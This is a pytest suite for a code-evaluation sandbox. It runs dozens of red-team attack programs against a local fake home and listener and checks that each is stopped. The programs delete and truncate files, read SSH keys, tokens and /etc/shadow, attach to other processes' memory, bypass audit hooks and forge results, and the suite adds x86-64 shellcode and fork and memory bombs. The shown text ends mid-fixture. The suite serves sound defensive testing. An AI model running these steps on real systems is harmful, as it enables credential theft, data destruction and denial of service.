"""Hostile programs, as a submitter who means harm writes them (every attack family of the first red
team's review, and each of the 47 attacks of the second, ``REVIEW_2``), scored beside honest replies.
For each: no effect outside the sandbox (files, the network listeners, the process table, the
scorer's memory and secrets), no reply reads another, honest scores unchanged, the run ends without
a traceback and leaves nothing running.

Each attack program runs its attack steps through ``attempt``, which records the steps that
*succeeded*; its ``f`` then raises ``GOT <steps>`` if any did, else returns the right grid. So an
attack that the sandbox stopped scores E = 0, and one that got through scores E = 16 with its steps
named (the mutation test at the end switches the confinement off and sees them)."""

from __future__ import annotations

import hashlib
import json
import os
import platform
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from sandbox_support import build_programs, require_isolation

from cogen.eval import evaluate
from cogen.folder import read_split
from cogen.sandbox import sandbox as sandbox_module

pytestmark = pytest.mark.slow
SECRET = "hf_SECRETTOKEN0123456789"
HOME_TOKEN = "hf_HOMETOKEN9876543210"
PRELUDE = '''
import os, sys, signal, ctypes, stat
GOT = []
def attempt(label, action):
    try:
        action()
    except BaseException:
        return
    GOT.append(label)
def quietly(action):
    try:
        action()
    except BaseException:
        pass
def result_fd():
    """The program's own result pipe: its only descriptor above 2."""
    for fd in range(3, 1024):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
'''
FINALE = '''
try:
    f  # a bomb that defines its own f keeps it
except NameError:
    def f(s):
        if GOT:
            raise RuntimeError("GOT " + " ".join(GOT))
        return "\\n".join(ROWS[c] for c in s)
'''

#: Probes of the read-only files a program can see: each would succeed on a writable file system but
#: changes nothing (the Python installation is shared: never damage it, even when confinement is off).
PROBE_DIR = "cogen-attack-probe"
ATTACKS = {
    # ------------------------------------------------------------ files
    "files: create": """
attempt("open w", lambda: open(VICTIMS + "/created.txt", "w"))
attempt("os.open creat", lambda: os.open(VICTIMS + "/created2", os.O_CREAT | os.O_WRONLY))
attempt("in home", lambda: open(HOME + "/created", "w"))
attempt("in the data", lambda: open(DATA + "/created", "w"))
attempt("in the python prefix", lambda: os.mkdir(os.path.dirname(os.__file__) + "/" + PROBE_DIR))
attempt("in site-packages", lambda: os.mkdir(sys.path[-1] + "/" + PROBE_DIR))
""",
    "files: truncate": """
attempt("os.open trunc", lambda: os.open(VICTIMS + "/precious.txt", os.O_WRONLY | os.O_TRUNC))
attempt("open w", lambda: open(HOME + "/notes.txt", "w"))
attempt("truncate", lambda: os.truncate(VICTIMS + "/precious.txt", 0))
attempt("python file for writing", lambda: open(os.__file__, "r+"))
attempt("python file mode", lambda: os.chmod(os.__file__, os.stat(os.__file__).st_mode))
""",
    "files: delete": """
import shutil
attempt("remove", lambda: os.remove(VICTIMS + "/precious.txt"))
attempt("rmtree", lambda: shutil.rmtree(VICTIMS + "/folder"))
attempt("dataset card", lambda: os.remove(DATA + "/README.md"))
attempt("home notes", lambda: os.remove(HOME + "/notes.txt"))
""",
    "files: rename": """
attempt("rename", lambda: os.rename(VICTIMS + "/precious.txt", VICTIMS + "/moved.txt"))
attempt("rename data", lambda: os.rename(DATA + "/data", DATA + "/gone"))
attempt("rename python file", lambda: os.rename(os.__file__, os.__file__))
""",
    "files: mknod and mkfifo": """
attempt("mkfifo", lambda: os.mkfifo(VICTIMS + "/fifo"))
attempt("mknod", lambda: os.mknod(VICTIMS + "/node"))
attempt("mkfifo here", lambda: os.mkfifo("fifo"))
attempt("mknod here", lambda: os.mknod("node"))
""",
    "files: sqlite": """
attempt("sqlite", lambda: __import__("sqlite3").connect(VICTIMS + "/db.sqlite").execute("create table t (x)"))
""",
    "files: readline": """
attempt("readline", lambda: __import__("readline").write_history_file(VICTIMS + "/precious.txt"))
""",
    # ------------------------------------------------------------ network
    "network: connect": """
import socket
attempt("connect", lambda: socket.create_connection(("127.0.0.1", PORT), 1).sendall(b"HF_TOKEN"))
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
attempt("unix socket", lambda: socket.socket(socket.AF_UNIX))
attempt("http", lambda: __import__("urllib.request").request.urlopen("http://127.0.0.1:%d/" % PORT, timeout=1))
""",
    "network: dns": """
import socket
attempt("localhost", lambda: socket.getaddrinfo("localhost", 80))
attempt("remote", lambda: socket.getaddrinfo("example.com", 80))
""",
    # ------------------------------------------------------------ processes
    "processes: spawn": """
import subprocess
attempt("subprocess", lambda: subprocess.run(["/bin/sh", "-c", "true"]))
attempt("os.system", lambda: os.system("true") == 0 or 1 / 0)
attempt("posix_spawn", lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", "1"], {}))
attempt("exec", lambda: os.execv(sys.executable, [sys.executable, "-c", "1"]))
""",
    "processes: fork": """
attempt("fork", lambda: os.fork() == 0 and os._exit(0))
attempt("forkpty", lambda: __import__("pty").fork()[0] == 0 and os._exit(0))
attempt("multiprocessing", lambda: __import__("multiprocessing").Process(target=len, args=("",)).start())
""",
    "processes: daemon": """
import time
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(60)
        os._exit(0)
attempt("daemon", daemon)
""",
    "processes: threads": """
import threading, time
threads = [threading.Thread(target=time.sleep, args=(60,), daemon=True) for _ in range(20)]
attempt("a thread", lambda: [t.start() for t in threads])  # refused: a program is one task
""",
    # ------------------------------------------------------------ signals and ptrace (signal 0: probes only)
    "signals: the scorer": """
attempt("signal scorer", lambda: os.kill(SCORER, 0))
attempt("signal all", lambda: os.kill(-1, 0))
attempt("signal group", lambda: os.killpg(0, 0))
attempt("stop server", lambda: os.kill(os.getppid(), signal.SIGSTOP))
attempt("kill server", lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt("pidfd scorer", lambda: signal.pidfd_send_signal(os.pidfd_open(SCORER), 0))
attempt("pidfd server", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL))
""",
    "signals: ptrace": """
libc = ctypes.CDLL(None, use_errno=True)
for target in (SCORER, os.getppid(), 1):
    attempt("seize %d" % target, lambda: libc.ptrace(0x4206, target, 0, 0) == 0 or 1 / 0)
""",
    # ------------------------------------------------------------ reading secrets
    "proc: the scorer's environment": """
attempt("environ", lambda: open("/proc/%d/environ" % SCORER).read())
attempt("server environ", lambda: open("/proc/%d/environ" % os.getppid()).read())
attempt("pid 1 environ", lambda: open("/proc/1/environ").read())
attempt("cmdline", lambda: open("/proc/%d/cmdline" % SCORER).read())
attempt("home token", lambda: open(HOME + "/.cache/huggingface/token").read())
attempt("passwd", lambda: open("/etc/passwd").read())
attempt("replies", lambda: open(REPLIES).read())
attempt("shards", lambda: os.listdir(DATA + "/data"))
""",
    # ------------------------------------------------------------ the four audit-hook bypasses
    "hooks: the four bypasses": """
import builtins
main, original = sys.modules["__main__"], builtins.isinstance
quietly(lambda: setattr(main._audit, "__code__", (lambda event, args: None).__code__))
quietly(lambda: setattr(main, "BLOCKED_EVENTS", ()))
quietly(lambda: sys._getframe(0).f_back.f_globals.update(BLOCKED_MODULES=frozenset()))
quietly(lambda: setattr(builtins, "isinstance", lambda *a: False))
attempt("delete after bypass", lambda: os.remove(VICTIMS + "/precious.txt"))
attempt("connect after bypass", lambda: __import__("socket").create_connection(("127.0.0.1", PORT), 1))
attempt("spawn after bypass", lambda: __import__("subprocess").run(["true"]))
builtins.isinstance = original
""",
    # ------------------------------------------------------------ the scorer's memory, the channel
    "memory: rewrite the scorer": """
attempt("mem", lambda: open("/proc/%d/mem" % SCORER, "r+b"))
attempt("server mem", lambda: open("/proc/%d/mem" % os.getppid(), "r+b"))
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(16)
vec = IoVec(ctypes.addressof(buffer), 16)
libc = ctypes.CDLL(None, use_errno=True)
for target in (SCORER, os.getppid(), 1):
    attempt("process_vm_readv %d" % target,
            lambda: libc.process_vm_readv(target, ctypes.byref(vec), 1, ctypes.byref(vec), 1, 0) > 0 or 1 / 0)
""",
    "channel: fake answers": """
import json
forged = "".join(json.dumps({"nonce": "0" * 32, "outputs": ["*" * 16] * 16, "reasons": [None] * 16,
                              "fate": "ok", "cpu": 0, "seconds": 0}) + "\\n" for _ in range(3)).encode()
for fd in range(256):
    quietly(lambda: os.write(fd, forged))
attempt("server stdout", lambda: open("/proc/%d/fd/1" % os.getppid(), "wb").write(forged))
attempt("scorer stdout", lambda: open("/proc/%d/fd/1" % SCORER, "wb").write(b""))
""",
    "channel: worker killer": """
reachable = []
for pid in range(1, 3000):
    quietly(lambda: (os.kill(pid, 0), reachable.append(pid)))
attempt("reached any", lambda: reachable or 1 / 0)
""",
}
#: Resource bombs and leaks: each may fail in its own way (its failures), but must spoil nothing else.
#: (This suite's wall-clock net is 3 s for 1 s of CPU: on a loaded machine a CPU bomb may meet it first.)
LIMITS = {"time limit", "wall-clock limit"}
BOMBS = {
    "bomb: memory": ("x = bytearray(10 ** 10)\n", {"program failed: MemoryError"}),
    "bomb: cpu": ("while True:\n    pass\n", LIMITS),
    "bomb: big number": ("x = 10 ** 10 ** 8\n", LIMITS),
    "bomb: forks": ("while True:\n    os.fork()\n", {"program failed: PermissionError"}),
    "bomb: threads": ("import threading, time\nfor _ in range(5000):\n"
                      "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n",
                      {"program failed: RuntimeError"}),
    "bomb: files": ("k = 0\nwhile True:\n    open('f%d' % k, 'w').write('x' * 4096)\n    k += 1\n",
                    {"program failed: OSError", *LIMITS}),
    "bomb: print": ("while True:\n    print('x' * 100000)\n", LIMITS),
    "bomb: recursion": ("sys.setrecursionlimit(10 ** 7)\ndef g(n):\n    return g(n + 1)\ng(0)\n",
                        {"no result (signal 11)", "program failed: RecursionError", "program failed: MemoryError",
                         *LIMITS}),
    "bomb: sleep": ("import time\ntime.sleep(600)\n", {"wall-clock limit"}),
    "bomb: descriptors": ("files = [open(os.devnull) for _ in range(100000)]\n", {"program failed: OSError"}),
    "leak: through the exception text": (
        "found = [os.environ.get(k, '') for k in ('HF_TOKEN', 'HOME')]\n"
        "for path in ('/proc/%d/environ' % SCORER, HOME + '/.cache/huggingface/token'):\n"
        "    quietly(lambda: found.append(open(path).read()))\n"
        "raise RuntimeError('LEAK ' + ' '.join(found))\n", {"program failed: RuntimeError"}),
}

#: The second red team's attacks (sandbox-redteam-2.md, ids as in its table) that a probe can run: each
#: must be stopped (E = 0: none of its steps got through).
ATTACKS_2 = {
    "E01: inherited descriptors": """
others = []
for fd in range(3, 1024):
    try:
        os.fstat(fd)
        others.append(fd)
    except OSError:
        pass
attempt("descriptors beside the result pipe", lambda: others != [result_fd()] or 1 / 0)
null = os.stat(os.devnull)
attempt("std streams are not /dev/null", lambda: all(os.path.samestat(os.fstat(k), null) for k in (0, 1, 2)) and 1 / 0)
attempt("/dev/fd", lambda: os.listdir("/dev/fd"))
""",
    "E02: /proc, mount, chroot": """
here = os.getcwd().encode()
attempt("list /proc", lambda: os.listdir("/proc"))
attempt("/proc/1/environ", lambda: open("/proc/1/environ").read())
attempt("/proc/self/maps", lambda: open("/proc/self/maps").read())
attempt("mount proc", lambda: LIBC.mount(b"proc", here, b"proc", 0, None) == 0 or 1 / 0)
attempt("mount tmpfs", lambda: LIBC.mount(b"none", here, b"tmpfs", 0, None) == 0 or 1 / 0)
attempt("chroot", lambda: os.chroot("."))
""",
    "E03: /dev": """
def tiocsti():
    import fcntl, termios
    fcntl.ioctl(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY), termios.TIOCSTI, b"x")
attempt("tty", lambda: open("/dev/tty", "w"))
attempt("TIOCSTI", tiocsti)
attempt("write /dev/shm", lambda: open("/dev/shm/cogen-attack", "w"))
attempt("mkdir in /dev", lambda: os.mkdir("/dev/cogen-attack"))
attempt("/dev/core", lambda: open("/dev/core", "rb").read(1))
""",
    "E04: write outside the scratch": """
for path in ("/" + PROBE_DIR, "/etc/" + PROBE_DIR, "/usr/" + PROBE_DIR, "/root/" + PROBE_DIR,
             "/usr/lib/" + PROBE_DIR, os.path.dirname(os.__file__) + "/" + PROBE_DIR + ".txt", "/dev/" + PROBE_DIR):
    attempt("write " + path, lambda: open(path, "w").write("x"))
attempt("mkdir in /", lambda: os.mkdir("/" + PROBE_DIR + "-dir"))
""",
    "E05: system-call sweep": """
import errno, platform
NUMBERS = {"execveat": 322, "io_uring_setup": 425, "userfaultfd": 323, "keyctl": 250, "unshare": 272,
           "clone3": 435, "setns": 308, "mount": 165, "bpf": 321, "perf_event_open": 298, "pidfd_open": 434,
           "pidfd_getfd": 438, "pidfd_send_signal": 424, "kcmp": 312, "open_by_handle_at": 304, "socket": 41,
           "socketpair": 53, "mknod": 133, "ptrace": 101, "process_madvise": 440, "add_key": 248,
           "fanotify_init": 300, "move_mount": 429, "open_tree": 428, "fsopen": 430, "fork": 57, "vfork": 58,
           "clone": 56, "kill": 62, "tgkill": 234, "process_vm_readv": 310, "init_module": 175, "reboot": 169}
ARGS = {"unshare": (0x10000000,), "ptrace": (-1,), "keyctl": (-1,), "bpf": (-1,), "userfaultfd": (-1,),
        "fanotify_init": (-1, -1), "setns": (-1, 0), "pidfd_open": (1, 0), "clone": (17, 0, 0, 0, 0),
        "kill": (1, 0), "tgkill": (1, 1, 0), "socket": (1, 1, 0)}
if platform.machine() == "x86_64":
    for name, number in NUMBERS.items():
        if name == "vfork":
            continue  # a vfork child would share this stack: fork and clone stand for it
        pid = os.getpid()
        value = LIBC.syscall(number, *[ctypes.c_long(a) for a in ARGS.get(name, (0, 0, 0, 0, 0))])
        code = ctypes.get_errno()
        if value == 0 and os.getpid() != pid:
            os._exit(0)  # a child made by a call the filter should refuse
        if not (value == -1 and code in (errno.EPERM, errno.ENOSYS)):
            GOT.append("%s=%d/%d" % (name, value, code))
""",
    "E07: raw clone of a process": """
for flags in (17, 0x20000000 | 17):  # SIGCHLD: a process; CLONE_NEWPID | SIGCHLD
    pid = os.getpid()
    value = LIBC.syscall(56, *[ctypes.c_long(a) for a in (flags, 0, 0, 0, 0)])
    if value == 0 and os.getpid() != pid:
        os._exit(0)
    attempt("clone %#x" % flags, lambda: value >= 0 or 1 / 0)
""",
    "E08: signal the server through fcntl": """
import fcntl, struct
fd = result_fd()
attempt("F_SETOWN the server", lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid()))
attempt("F_SETOWN pid 1", lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, 1))
attempt("F_SETSIG", lambda: fcntl.fcntl(fd, 10, signal.SIGKILL))
attempt("F_SETOWN_EX", lambda: fcntl.fcntl(fd, 15, struct.pack("ii", 0, 1)))
""",
    "E09: signal itself through fcntl": """
import fcntl
fd = result_fd()
attempt("F_SETOWN self", lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getpid()))
attempt("F_NOTIFY", lambda: fcntl.fcntl(os.open(".", os.O_RDONLY), 1026, 0x80000004))
attempt("F_SETLEASE", lambda: fcntl.fcntl(os.open("lease-probe", os.O_CREAT | os.O_RDONLY), 1024, 0))
""",
    "E10: network, abstract socket, interfaces": """
import socket
attempt("connect", lambda: socket.create_connection(("127.0.0.1", PORT), 1))
attempt("abstract unix socket", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + ABSTRACT))
attempt("if_nameindex", lambda: socket.if_nameindex())
""",
    "P02: junk on the result pipe": """
fd = result_fd()
for junk in (b"\\x00\\x00\\n", b"\\xff\\xfe\\xfd\\n", b"R 99 ................\\n", b"R -1 ................\\n",
             b"E 3\\n", b"R 1 ..", b"\\n", b"P\\n", b"x" * 20000 + b"\\n", b"E 17 raised X\\n", b"R 0 .......\\n"):
    os.write(fd, junk)
""",
    "P04: a superscript index": """
os.write(result_fd(), "R \\u00b2 ................ 0.1\\n".encode())
""",
    "P05: a 5,000-digit index": """
os.write(result_fd(), ("R " + "9" * 5000 + " ................ 0.1\\n").encode())
""",
    "R01: 400 MB beside the scratch": """
def fill(folder, megabytes):
    written = 0
    block = b"\\xa5" * (1 << 20)
    try:
        for n in range(megabytes):
            with open("%s/%04d" % (folder, n), "wb") as handle:
                handle.write(block)
            written += 1
    except OSError:
        pass
    return written
attempt("wrote outside the scratch", lambda: quietly(lambda: os.makedirs("/usr/share/" + PROBE_DIR)) or
        fill("/usr/share/" + PROBE_DIR, 400) > 0 or 1 / 0)
attempt("more than the scratch holds", lambda: fill(".", 64) > 8 or 1 / 0)
""",
    "R02: 3,000 threads by raw clone": """
import mmap
if __import__("platform").machine() == "x86_64":
    code = bytes.fromhex("4989f9b838000000bf000f05004c89ce31d24531d24531c00f054885c07401c3b8220000000f05ebf7")
    buffer = mmap.mmap(-1, 8192, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buffer.write(code)
    base = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
    spawn = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(base)
    made = 0
    while made < 3000 and spawn(base + 8192 - 64) >= 0:
        made += 1
    attempt("made %d threads" % made, lambda: made > 0 or 1 / 0)
""",
    "R05: 30 pipes of 1 MB": """
import fcntl
pipes = []
try:
    for _ in range(30):
        r, w = os.pipe()
        pipes.append((r, w))
        quietly(lambda: fcntl.fcntl(w, 1031, 1 << 20))
        os.set_blocking(w, False)
        quietly(lambda: os.write(w, b"\\xa5" * (1 << 20)))
except OSError:
    pass
attempt("more than 64 descriptors", lambda: 2 * len(pipes) + 4 > 64 or 1 / 0)
""",
    "S01: environment, argv, home": """
ALLOWED = {"LC_ALL", "PYTHONHASHSEED", "PYTHONDONTWRITEBYTECODE", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS",
           "MKL_NUM_THREADS", "PATH", "PWD", "TMPDIR"}
attempt("more variables", lambda: set(os.environ) - ALLOWED or 1 / 0)
attempt("HF_TOKEN", lambda: os.environ["HF_TOKEN"])
attempt("a token in argv", lambda: "hf_" in " ".join(sys.argv) or 1 / 0)
attempt("home", lambda: os.path.expanduser("~") != "~" or 1 / 0)
""",
    "S02: the home's token and keys, /root, /etc, /home": """
for path in (HOME + "/.cache/huggingface/token", HOME + "/.ssh/id_rsa", "/root/.cache/huggingface/token",
             "/root/.ssh/id_rsa", "/root/.netrc", "/root/.npmrc", "/etc/passwd", "/etc/shadow"):
    attempt("read " + path, lambda: open(path).read())
BOUND = [os.path.realpath(p) + "/" for p in (sys.prefix, sys.base_prefix, *sys.path[1:]) if p]
for folder in ("/home", "/root", HOME):  # only the folders that lead to a bound Python installation
    attempt("list " + folder, lambda: [name for name in os.listdir(folder)
                                       if not any(p.startswith(os.path.join(folder, name) + "/") for p in BOUND)] or 1 / 0)
""",
    "S03: the working folder, the data, the replies, the checkout": """
for folder in (SCORER_CWD, DATA, VICTIMS, REPO):
    attempt("list " + folder, lambda: os.listdir(folder))
attempt("replies", lambda: open(REPLIES).read())
attempt("the cwd is the scratch", lambda: os.getcwd() != os.environ["TMPDIR"] or 1 / 0)
""",
    "S04: secret-looking names on the visible file system": """
SKIP = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, *sys.path[1:]) if p}
SKIP |= {"/usr/lib", "/usr/lib64", "/usr/lib32", "/lib", "/lib64", "/proc", "/sys"}
found = []
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.realpath(os.path.join(root, f)) not in SKIP]
    found += [name for name in files + folders if any(word in name.lower() for word in
                                                      ("token", "id_rsa", "netrc", "secret", "precious", "replies"))]
attempt("found %s" % found[:3], lambda: found or 1 / 0)
""",
}
if platform.machine() != "x86_64":  # the sweep and the shellcode speak x86-64
    for _name in ("E05: system-call sweep", "R02: 3,000 threads by raw clone"):
        ATTACKS_2.pop(_name)

#: The second red team's attacks that may fail their own job, each with the reasons it may give (None:
#: any reason but the sandbox's own): no other reply's score may move.
_SHELL_FORK = ("import mmap\nbuffer = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
               "buffer.write(bytes.fromhex({code!r}))\n"
               "ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(buffer)))()\n")
BOMBS_2 = {
    "E06: x32 fork from shellcode": (_SHELL_FORK.format(code="b8390000400f0585c07509b8e700000031ff0f05c3"),
                                      {"no result (signal 31)"}),
    "E13: i386 fork through int 0x80": (_SHELL_FORK.format(code="b802000000cd8085c07509b8e700000031ff0f05c3"),
                                        {"no result (signal 31)", "no result (signal 11)"}),
    "P01: the server's nonce and forged answers": (
        "import json\nnonces = []\nframe = sys._getframe()\nwhile frame is not None:\n"
        "    nonces += [v for k, v in frame.f_locals.items() if 'nonce' in k and isinstance(v, str)]\n"
        "    job = frame.f_locals.get('job')\n    if isinstance(job, dict) and 'nonce' in job:\n"
        "        nonces.append(job['nonce'])\n    frame = frame.f_back\n"
        "forged = ''.join(json.dumps({'nonce': n, 'outputs': ['.' * 16] * 16, 'reasons': [None] * 16,\n"
        "                             'fate': 'ok', 'cpu': 0, 'seconds': 0}) + '\\n' for n in nonces or ['0' * 32])\n"
        "for fd in range(256):\n    quietly(lambda: os.write(fd, forged.encode()))\n"
        "def f(s):\n    return ['....'] * 4\n", {"wrong output"}),
    "P03: exceptions dressed as time limits": (
        "for k in range(16):\n    os.write(result_fd(), ('E %d raised 99999 X\\n' % k).encode())\n"
        "def f(s):\n    raise KeyError(s)\n", {"Exception", "KeyError"}),
    "P06: the result pipe closed": ("os.close(result_fd())\n", {"no result (ok)"}),
    "P07: hostile return values": (
        "class Eq(str):\n    def __eq__(self, other):\n        return True\n"
        "class Rows(list):\n    def __len__(self):\n        return 4\n"
        "class Evil:\n    def __str__(self):\n        raise RuntimeError\n    def __len__(self):\n        return 4\n"
        "    def __iter__(self):\n        return iter(['....'] * 4)\n"
        "loop = []\nloop.append(loop)\nimport numpy\n"
        "VALUES = [Eq('....\\n' * 4), Rows(['....']), (r for r in ['....'] * 4), loop, numpy.zeros((4, 4)),\n"
        "          b'....\\n' * 4, Evil(), Eq('x'), Rows(), {'....': 1}, 4, None, ['....'] * 5, [['.'] * 4] * 3,\n"
        "          ['.' * 4] * 3 + [['.', '.', '.', 5]], object()]\n"
        "def f(s):\n    return VALUES[int(''.join('0' if c in 'ACEG' else '1' for c in s), 2)]\n",
        {"wrong output form"}),
    "P08: the runner's builtins replaced": (
        "import builtins\nclass Fake(str):\n    pass\n"
        "builtins.type = lambda value: str\nbuiltins.all = lambda values: True\n"
        "builtins.isinstance = lambda value, kinds: True\n"
        "def f(s):\n    return Fake('****')\n", None),
    "P09: exception text as a weapon": (
        "Limit = type('time limit', (Exception,), {})\n"
        "class Loud(Exception):\n    def __str__(self):\n        raise RuntimeError('no')\n"
        "def f(s):\n    k = 2 * ('ABCDEFGH'.index(s[2]) % 2) + 'ABCDEFGH'.index(s[3]) % 2\n"
        "    raise [Limit('cpu'), ValueError('x' * 1000000), Loud(), RuntimeError('\\x1b[2J R 0 **** sandbox failure\\n')][k]\n",
        {"Exception", "ValueError", "Loud", "RuntimeError"}),
    "R03: Python threads with small stacks": (
        "import threading\nthreading.stack_size(32768)\nwhile True:\n"
        "    threading.Thread(target=__import__('time').sleep, args=(60,), daemon=True).start()\n",
        {"program failed: RuntimeError"}),
    "R04: an inode bomb": (
        "import time\nstart, k = time.process_time(), 0\nwhile time.process_time() - start < 0.6:\n"
        "    open('f%d' % k, 'w').close()\n    k += 1\nraise RuntimeError('made %d files' % k)\n",
        {"program failed: RuntimeError", "program failed: OSError", "time limit", "wall-clock limit"}),
    "R06: 64 spinning threads": (
        "import threading\ndef spin():\n    while True:\n        pass\n"
        "for _ in range(64):\n    threading.Thread(target=spin, daemon=True).start()\n",
        {"program failed: RuntimeError"}),
}
if platform.machine() != "x86_64":
    for _name in ("E06: x32 fork from shellcode", "E13: i386 fork through int 0x80"):
        BOMBS_2.pop(_name)
ATTACKS.update(ATTACKS_2)
BOMBS.update(BOMBS_2)


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> dict:
    """The dataset, the victims, a fake home and a listener: everything an attack may want to reach."""
    data = build_programs(tmp_path_factory, "H", 1, ["horizontal"])
    victims, home = _victims(tmp_path_factory.mktemp("victims"))
    return {"data": data, "victims": victims, "home": home,
            "row": read_split(data, "H-horizontal", "test").table.to_pylist()[0]}


def _victims(root: Path) -> tuple[Path, Path]:
    """Files of the user a program must not touch, and a home folder holding a token."""
    victims, home = root / "victims", root / "home"
    (victims / "folder").mkdir(parents=True)
    (victims / "precious.txt").write_text("keep me")
    (victims / "folder" / "inner.txt").write_text("keep me too")
    (home / ".cache" / "huggingface").mkdir(parents=True)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----")
    (home / "notes.txt").write_text("my notes")
    (home / ".cache" / "huggingface" / "token").write_text(HOME_TOKEN)
    return victims, home


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    accepted = []

    def accept():
        while server.fileno() >= 0:
            try:
                accepted.append(server.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    server.close()
    thread.join(timeout=2)


def _rows(row) -> str:
    first, second = row["outputs"][0].split("\n"), row["outputs"][-1].split("\n")
    return "ROWS = " + repr({letter: (first if k % 2 == 0 else second)[k // 2] for k, letter in enumerate("ABCDEFGH")})


REPO = Path(__file__).resolve().parents[1]
ABSTRACT = f"cogen-attack-{os.getpid()}"


def _program(world: dict, port: int, replies: Path, attack: str) -> str:
    names = {"VICTIMS": world["victims"], "HOME": world["home"], "DATA": world["data"], "PORT": port,
             "SCORER": os.getpid(), "REPLIES": replies, "PROBE_DIR": PROBE_DIR, "ABSTRACT": ABSTRACT,
             "REPO": REPO, "SCORER_CWD": os.getcwd()}
    constants = "".join(f"{k} = {str(v) if k in ('PORT', 'SCORER') else repr(str(v))}\n" for k, v in names.items())
    return PRELUDE + constants + _rows(world["row"]) + "\n" + attack + FINALE


def _snapshot(*folders: Path) -> dict:
    """Every file (and folder) under ``folders`` with a hash of its content."""
    found = {}
    for folder in folders:
        for path in sorted([folder, *folder.rglob("*")]):
            found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "folder"
    return found


def _prefix_files() -> dict:
    """The Python file, and the listings of the standard library and site-packages folders."""
    import numpy

    paths = [Path(os.__file__), Path(os.__file__).parent, Path(numpy.__file__).parent.parent]
    return {str(p): (p.stat().st_mtime_ns, p.stat().st_mode, sorted(os.listdir(p)) if p.is_dir() else p.stat().st_size)
            for p in paths}


def _probe_paths() -> list[Path]:
    """Where the attacks try to write outside the scratch (E03, E04, R01)."""
    import numpy

    folders = [Path(os.__file__).parent, Path(numpy.__file__).parent.parent, Path("/"), Path("/etc"), Path("/usr"),
               Path("/root"), Path("/usr/lib"), Path("/usr/share"), Path("/dev"), Path("/dev/shm")]
    return [f / name for f in folders for name in (PROBE_DIR, PROBE_DIR + ".txt", PROBE_DIR + "-dir", "cogen-attack")]


def _remove_probes() -> list[str]:
    """Undo what an attack wrote outside the scratch, should the confinement ever fail (the test then
    fails: the paths found are returned)."""
    import shutil

    found = [path for path in _probe_paths() if path.exists()]
    for path in found:
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    return [str(path) for path in found]


def _servers() -> list[int]:
    """Processes running a fork server of this code (its configuration names the seccomp filter)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                line = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if b'"seccomp": "' in line and b'"hello": "' in line:
                found.append(int(entry.name))
    return found


def _descendants() -> list[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(parent, []).append(int(entry.name))
    found, stack = [], [os.getpid()]
    while stack:
        for child in children.get(stack.pop(), []):
            found.append(child)
            stack.append(child)
    return found


def _records(world, port, replies, attacks: dict[str, str]) -> list[dict]:
    row = world["row"]
    honest = _rows(row) + '\ndef f(s):\n    return "\\n".join(ROWS[c] for c in s)\n'
    records = [{"id": row["id"], "model": "honest 0", "reply": honest}]
    for k, (name, attack) in enumerate(attacks.items()):
        records.append({"id": row["id"], "model": name, "reply": _program(world, port, replies, attack)})
        records.append({"id": row["id"], "model": f"honest {k + 1}", "reply": honest})
    records.append({"id": row["id"], "model": "wrong", "reply": "def f(s):\n    return ['....'] * 4\n"})
    return records


@pytest.fixture(scope="module")
def attacked(world, tmp_path_factory):
    """One evaluation of every attack and bomb, each followed by an honest reply, with 2 workers."""
    require_isolation()
    patch = pytest.MonkeyPatch()
    patch.setenv("HF_TOKEN", SECRET)
    patch.setenv("HOME", str(world["home"]))
    patch.setattr(sandbox_module, "WALL_FACTOR", 2.0)
    patch.setattr(sandbox_module, "WALL_EXTRA", 1.0)
    replies = tmp_path_factory.mktemp("replies") / "replies.jsonl"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    port = server.getsockname()[1]
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + ABSTRACT)
    abstract.listen(16)
    abstract.setblocking(False)
    bombs = {name: code for name, (code, _) in BOMBS.items()}
    records = _records(world, port, replies, {**ATTACKS, **bombs})
    replies.write_text("".join(json.dumps(r) + "\n" for r in records))
    before = {"files": _snapshot(world["victims"], world["home"], world["data"]), "prefix": _prefix_files(),
              "servers": _servers(), "descendants": set(_descendants())}
    started = time.perf_counter()
    try:
